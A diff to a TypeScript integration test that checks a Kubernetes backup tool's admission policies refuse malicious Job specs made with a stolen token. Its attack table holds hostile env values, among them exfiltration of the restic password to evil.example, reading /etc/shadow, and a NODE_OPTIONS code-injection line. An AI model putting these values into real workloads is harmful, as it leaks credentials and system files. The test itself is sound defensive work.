@@ -9,7 +9,7 @@ import { ApiError, type RestClient } from "../../lib/k8s/rest.ts";
 import { encodeResult } from "../../lib/restic/result.ts";
 import { listSnapshots, startRestServer, tempDir, type RestServer } from "../integration/worker-harness.ts";
 import { PASSWORD, pvcWithData, repositorySecret, settled, type BackupJobObj } from "../support/backup-fixtures.ts";
-import { admin, clientForServiceAccount, createNamespace, waitFor } from "../support/kube.ts";
+import { admin, clientForServiceAccount, clientForUser, createNamespace, waitFor } from "../support/kube.ts";
 import { testConfig } from "../support/config.ts";
 import { startWalle, WORKER_IMAGE } from "../support/walle.ts";
 
@@ -61,6 +61,15 @@ describe("a stolen reconcile or tick token", () => {
       spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], persistentVolumeReclaimPolicy: "Delete", storageClassName: "csi-hostpath-sc", csi: { driver: "hostpath.csi.walle.local", volumeHandle: staging }, claimRef: { namespace: INSTALL_NAMESPACE, name: `walle-restore-${ns}` } },
     });
     const patchPv = (api: RestClient, name: string, body: unknown) => answer(api.patch(`/api/v1/persistentvolumes/${name}`, body, "merge", DRY));
+    // An admin of the install namespace (Kubernetes' admin role there), who may delete its ConfigMaps but not lift a policy.
+    const ops = `ops-${ns}`;
+    await admin().create(`/apis/rbac.authorization.k8s.io/v1/namespaces/${INSTALL_NAMESPACE}/rolebindings`, {
+      apiVersion: "rbac.authorization.k8s.io/v1", kind: "RoleBinding", metadata: { name: ops },
+      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" },
+      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "User", name: ops }],
+    });
+    const installAdmin = await clientForUser(ops);
+    const permits = `/api/v1/namespaces/${INSTALL_NAMESPACE}/configmaps/walle-exec-permits`;
     try {
       const attacks: [string, Promise<string>, RegExp][] = [
         ["a Secret by envFrom without the prefix", answer(reconcile.create(jobs, job(ns, (p) => (worker(p).envFrom = [{ secretRef: { name: "database-credentials" } }])), DRY)), /only by envFrom with the prefix SECRET_/],
@@ -68,6 +77,12 @@ describe("a stolen reconcile or tick token", () => {
         ["a Secret's key by env valueFrom", answer(tick.create(jobs, job(ns, (p) => (worker(p).env = [{ name: "PVC_NAME", valueFrom: { secretKeyRef: { name: "database-credentials", key: "password" } } }])), DRY)), /env only of its settings, by value/],
         ["NODE_OPTIONS in env", answer(reconcile.create(jobs, job(ns, (p) => (worker(p).env = [{ name: "NODE_OPTIONS", value: "--require /data/evil.js" }])), DRY)), /env only of its settings/],
         ["a repository of the attacker's in env", answer(reconcile.create(jobs, job(ns, (p) => (worker(p).env = [{ name: "SECRET_RESTIC_REPOSITORY", value: "rest:http://evil.example/" }])), DRY)), /env only of its settings/],
+        [
+          "a setting that expands the Secret's password into the progress URL",
+          answer(reconcile.create(jobs, job(ns, (p) => (worker(p).env = [{ name: "PROGRESS_SINK_URL", value: "https://evil.example/?p=$(SECRET_RESTIC_PASSWORD)" }])), DRY)),
+          /no \$\(…\) reference/,
+        ],
+        ["a PVC's file as the progress token, sent to the sink", answer(tick.create(jobs, job(ns, (p) => (worker(p).env = [{ name: "PROGRESS_TOKEN_FILE", value: "/data/etc/shadow" }])), DRY)), /PROGRESS_TOKEN_FILE and RESTIC_CACHE_DIR at Walle's own paths/],
         ["the worker image from another registry", answer(reconcile.create(jobs, job(ns, (p) => (worker(p).image = "evil.example/walle-worker:dev")), DRY)), /ValidatingAdmissionPolicy 'walle-worker-image'.*runs the install's worker image, ghcr\.io\/ros-io\/walle-worker:dev, and no other/],
         ["the worker image at another tag", answer(tick.create(jobs, job(ns, (p) => (worker(p).image = "ghcr.io/ros-io/walle-worker:evil")), DRY)), /walle-worker-image/],
         ["Node as the command, in the worker image", answer(reconcile.create(jobs, job(ns, (p) => (worker(p).command = ["/nodejs/bin/node", "-e", "process.exit(0)"])), DRY)), /runs the image's own entrypoint with one of its commands/],
@@ -87,7 +102,7 @@ describe("a stolen reconcile or tick token", () => {
           answer(reconcile.create(`${SNAP}/namespaces/${ns}/volumesnapshots`, { apiVersion: "snapshot.storage.k8s.io/v1", kind: "VolumeSnapshot", metadata: { name: "grab" }, spec: { source: { persistentVolumeClaimName: "database" } } }, DRY)),
           /labelled app\.kubernetes\.io\/created-by=walle/,
         ],
-        ["deleting the exec permits (even as an admin)", answer(admin().delete(`/api/v1/namespaces/${INSTALL_NAMESPACE}/configmaps/walle-exec-permits`, undefined, DRY)), /walle-exec-permits-kept.*stays while Walle is installed/],
+        ["deleting the exec permits, as an admin of the install namespace", answer(installAdmin.delete(permits, undefined, DRY)), /walle-exec-permits-kept.*stays while Walle is installed/],
       ];
       const seen = await Promise.all(attacks.map(([, refused]) => refused));
       const rows = attacks.map(([what, , message], i) => [what, message.test(seen[i] ?? "") && seen[i]?.startsWith("403 ") ? "refused as expected" : seen[i]]);
@@ -97,8 +112,11 @@ describe("a stolen reconcile or tick token", () => {
       expect(await answer(reconcile.create(jobs, job(ns), DRY))).toBe("admitted");
       expect(await answer(tick.create(jobs, job(ns), DRY))).toBe("admitted");
       expect(await patchPv(reconcile, staging, { metadata: { labels: { "app.kubernetes.io/created-by": "walle" }, annotations: { "ros.io/original-reclaim-policy": "Delete" } }, spec: { persistentVolumeReclaimPolicy: "Retain" } })).toBe("admitted");
+      // Who could lift the protection (a cluster admin uninstalling Walle) may delete the permits.
+      expect(await answer(admin().delete(permits, undefined, DRY))).toBe("admitted");
     } finally {
       for (const name of [pv, staging]) await admin().delete(`/api/v1/persistentvolumes/${name}`).catch(() => {});
+      await admin().delete(`/apis/rbac.authorization.k8s.io/v1/namespaces/${INSTALL_NAMESPACE}/rolebindings/${ops}`).catch(() => {});
     }
   });
 });
